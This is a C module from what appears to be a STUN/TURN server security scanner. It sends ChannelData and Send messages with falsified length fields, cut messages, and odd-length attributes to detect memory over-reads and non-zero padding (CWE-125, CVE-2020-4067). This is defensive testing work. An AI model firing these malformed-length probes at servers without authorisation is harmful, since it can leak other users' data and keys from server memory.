// SPDX-License-Identifier: Apache-2.0
#include "attack/attack_leak.h"

#include <string.h>

#include "attack/attack_step.h"
#include "base/macro.h"
#include "stun/stun_attr.h"
#include "stun/stun_chandata.h"
#include "talk/talk.h"
#include "talk/talk_answer.h"
#include "talk/talk_ask.h"
#include "talk/talk_data.h"
#include "talk/talk_need.h"

enum {
    NUMBER = 0x4000,
    PAYLOAD = 24,
    UNKNOWN_REQUIRED = 0x7F70,
};

// What came to a peer's socket.
static bool is_at_peer(struct talk *talk, const struct talk_arrival *arrival, void *arg)
{
    (void)arg;
    return arrival->socket == talk->peers[0].socket;
}

static bool is_at_me(struct talk *talk, const struct talk_arrival *arrival, void *arg)
{
    (void)arg;
    return arrival->socket == talk_me(talk)->socket;
}

// Nothing reaches the peer, or what was sent and not a byte beyond it.
static void expect_no_more(struct talk *talk, struct bytes data)
{
    uint8_t text[TALK_TEXT_MAX];
    struct wr wr = wr_init(text, sizeof text);
    const struct talk_arrival *arrival;
    const uint64_t until_ns = talk->world->now(talk->world->self).mono_ns + talk->target->quiet_ns;

    while (!talk->is_decided && (arrival = talk_wait(talk, until_ns, is_at_peer, NULL)) != NULL) {
        if (arrival->len > data.len) {
            wr_decimal(&wr, arrival->len);
            wr_text(&wr, " bytes reached the peer, of which ");
            wr_decimal(&wr, arrival->len - data.len);
            wr_text(&wr, " were never sent");
            talk_fail(talk, bytes_of_text("no byte at the peer that was not sent"), wr_done(&wr));
        }
    }
}

static void channel_data(struct talk *talk)
{
    static const uint16_t lies[] = {1, 3, 4, 100, 1000, UINT16_MAX - PAYLOAD};
    uint8_t memory[PAYLOAD];
    uint8_t datagram[STUN_CHANDATA_HEAD_LEN + PAYLOAD];
    struct bytes data = talk_payload(talk, memory, sizeof memory);

    talk_need_allocation(talk);
    talk_need_channel(talk, 0, NUMBER);
    for (size_t i = 0; i < COUNT_OF(lies) && !talk->is_decided; i++) {
        struct wr wr = wr_init(datagram, sizeof datagram);
        stun_chandata_head_write(&wr, NUMBER, (uint16_t)(PAYLOAD + lies[i]));
        wr_bytes(&wr, data);
        talk_send(talk, wr_done(&wr));
        expect_no_more(talk, data);
    }
}

// A Send indication whose last attribute is DATA; lies are put into it afterwards.
static size_t write_send(struct talk *talk, struct bytes data)
{
    struct wr *wr = talk_request_indication(talk, STUN_SEND);

    talk_request_peer(talk, 0);
    const size_t data_at = wr->len;
    stun_attr_write(wr, STUN_ATTR_DATA, data);
    talk_request_end(talk);
    return data_at;
}

static void u16_put(uint8_t *to, size_t value)
{
    to[0] = (uint8_t)(value >> 8);
    to[1] = (uint8_t)value;
}

static void need_permission(struct talk *talk)
{
    talk_need_allocation(talk);
    talk_need_permission(talk, 0);
}

static void attribute(struct talk *talk)
{
    static const size_t lies[] = {1, 4, 100, 1000, 60000};
    uint8_t memory[PAYLOAD];
    struct bytes data = talk_payload(talk, memory, sizeof memory);

    need_permission(talk);
    for (size_t i = 0; i < COUNT_OF(lies) && !talk->is_decided; i++) {
        const size_t at = write_send(talk, data);
        u16_put(talk->message + at + 2, PAYLOAD + lies[i]);
        attack_step_send(talk);
        expect_no_more(talk, data);
    }
}

static void message(struct talk *talk)
{
    static const size_t lies[] = {4, 100, 1000, 60000};
    uint8_t memory[PAYLOAD];
    struct bytes data = talk_payload(talk, memory, sizeof memory);

    need_permission(talk);
    for (size_t i = 0; i < COUNT_OF(lies) && !talk->is_decided; i++) {
        const size_t at = write_send(talk, data);
        // Attribute and message lie alike, so that each fits the other.
        u16_put(talk->message + at + 2, PAYLOAD + lies[i]);
        u16_put(talk->message + 2, talk->message_len - STUN_HEADER_LEN + lies[i]);
        attack_step_send(talk);
        expect_no_more(talk, data);
    }
}

static void message_cut(struct talk *talk)
{
    uint8_t memory[PAYLOAD];
    struct bytes data = talk_payload(talk, memory, sizeof memory);

    need_permission(talk);
    for (size_t cut = 4; cut <= PAYLOAD && !talk->is_decided; cut += 4) {
        IGNORE(write_send(talk, data));
        talk->message_len -= cut;
        attack_step_send(talk);
        expect_no_more(talk, bytes_first(data, PAYLOAD - cut));
    }
}

// Finds padding of the answer that is not zero.
static bool find_padding(const struct talk *talk, uint8_t *out)
{
    struct bytes whole = {talk->answer_bytes, talk->answer_len};
    struct rd rd = rd_init(bytes_from(whole, STUN_HEADER_LEN));

    while (rd.left >= STUN_ATTR_HEAD_LEN) {
        rd_u16(&rd);
        const uint16_t len = rd_u16(&rd);
        rd_skip(&rd, len);
        const struct bytes padding = rd_bytes(&rd, (4 - len % 4U) % 4);
        if (!rd_ok(&rd)) {
            return false;
        }
        for (size_t i = 0; i < padding.len; i++) {
            if (padding.ptr[i] != 0) {
                *out = padding.ptr[i];
                return true;
            }
        }
    }
    return false;
}

static void expect_zero_padding(struct talk *talk)
{
    uint8_t text[TALK_TEXT_MAX];
    struct wr wr = wr_init(text, sizeof text);
    uint8_t byte = 0;

    if (!talk->is_decided && talk->has_answer && find_padding(talk, &byte)) {
        wr_text(&wr, "padding of 0x");
        wr_hex(&wr, (struct bytes){&byte, 1});
        wr_text(&wr, " in ");
        talk_answer_write(talk, &wr);
        // A space is what RFC 5769 pads with: a habit, and nobody's memory.
        talk_weigh(talk, byte == ' ' ? TALK_INFO : talk->check->severity);
        talk_fail(talk, bytes_of_text("padding of zeros"), wr_done(&wr));
    }
}

// Answers that have texts of odd lengths, after one that has left other bytes behind.
static void padding(struct talk *talk)
{
    uint8_t memory[200];

    for (size_t len = 1; len < 8; len++) {
        struct wr *wr = talk_request(talk, STUN_BINDING);
        memset(memory, 0xA5, sizeof memory);
        stun_attr_write(wr, STUN_ATTR_SOFTWARE, (struct bytes){memory, 60 + len});
        talk_ask_with(talk, TALK_NOTHING);
        expect_zero_padding(talk);
        wr = talk_request(talk, STUN_BINDING);
        for (size_t i = 0; i < len; i++) {
            stun_attr_write(wr, (uint16_t)(UNKNOWN_REQUIRED + i), (struct bytes){memory, len});
        }
        talk_ask_with(talk, TALK_NOTHING);
        expect_zero_padding(talk);
        wr = talk_request(talk, STUN_ALLOCATE);
        talk_request_udp(wr);
        stun_attr_write(wr, STUN_ATTR_REALM, (struct bytes){memory, 20 + len});
        talk_ask_with(talk, TALK_NOTHING);
        expect_zero_padding(talk);
    }
    talk_need_that(talk, talk->is_decided || talk->has_answer, "the server does not answer");
}

static void padding_data(struct talk *talk)
{
    uint8_t memory[PAYLOAD];
    uint8_t byte = 0;

    need_permission(talk);
    for (size_t len = 1; len < 8 && !talk->is_decided; len++) {
        const struct bytes data = talk_payload(talk, memory, len);
        const uint64_t until_ns =
            talk->world->now(talk->world->self).mono_ns + talk->target->quiet_ns;
        const struct talk_arrival *arrival;
        talk_send_from_peer(talk, 0, data);
        while ((arrival = talk_wait(talk, until_ns, is_at_me, NULL)) != NULL) {
            talk->answer_len = arrival->len;
            memcpy(talk->answer_bytes, arrival->bytes, arrival->len);
            if (stun_header_is_likely((struct bytes){arrival->bytes, arrival->len}) &&
                find_padding(talk, &byte)) {
                talk_fail(talk, bytes_of_text("padding of zeros"),
                          bytes_of_text("a Data indication whose padding is not zero"));
            }
        }
    }
}

static const struct talk_cure length_cure = {
    .coturn = "update it, and tell coturn",
    .pion = "update it, and tell pion",
    .fairlead = "tell us: lengths are compared with what came",
};
static const struct talk_cure padding_cure = {
    .coturn = "4.5.1.3 or later",
    .pion = "update it, and tell pion",
    .fairlead = "tell us: padding is written as zeros",
};

#define OVERREAD                                                                                   \
    "A server that believes a length more than the datagram sends what stands behind it in its "   \
    "memory: what others sent, names, keys."

static const struct talk_check checks[] = {
    {
        .id = "leak-channel-data",
        .section = "CWE-125",
        .severity = TALK_HIGH,
        .rule = "ChannelData that says it is longer than its datagram brings nothing more.",
        .words = OVERREAD,
        .cure = &length_cure,
        .run = channel_data,
    },
    {
        .id = "leak-attribute",
        .section = "CWE-125",
        .severity = TALK_HIGH,
        .rule = "Nor does DATA that says it is longer than its message.",
        .words = OVERREAD,
        .cure = &length_cure,
        .run = attribute,
    },
    {
        .id = "leak-message",
        .section = "CWE-125",
        .severity = TALK_HIGH,
        .rule = "Nor does a message that says, with its DATA, that it is longer than its datagram.",
        .words = OVERREAD,
        .cure = &length_cure,
        .run = message,
    },
    {
        .id = "leak-cut",
        .section = "CWE-125",
        .severity = TALK_HIGH,
        .rule = "Nor does a message that was cut.",
        .words = OVERREAD,
        .cure = &length_cure,
        .run = message_cut,
    },
    {
        .id = "leak-padding",
        .section = "CVE-2020-4067",
        .severity = TALK_HIGH,
        .rule = "Padding in answers is zero.",
        .words = "Up to three bytes at a time strangers read what the memory held before.",
        .cure = &padding_cure,
        .run = padding,
    },
    {
        .id = "leak-padding-data",
        .section = "CVE-2020-4067",
        .severity = TALK_HIGH,
        .rule = "So it is in Data indications.",
        .words = "Up to three bytes at a time users read what the memory held before.",
        .cure = &padding_cure,
        .run = padding_data,
    },
};

const struct talk_subject attack_leak = {
    .name = "memory",
    .about = "Lengths that lie are as old as protocols, and have laid open the memory of many "
             "servers.",
    .checks = checks,
    .count = COUNT_OF(checks),
};
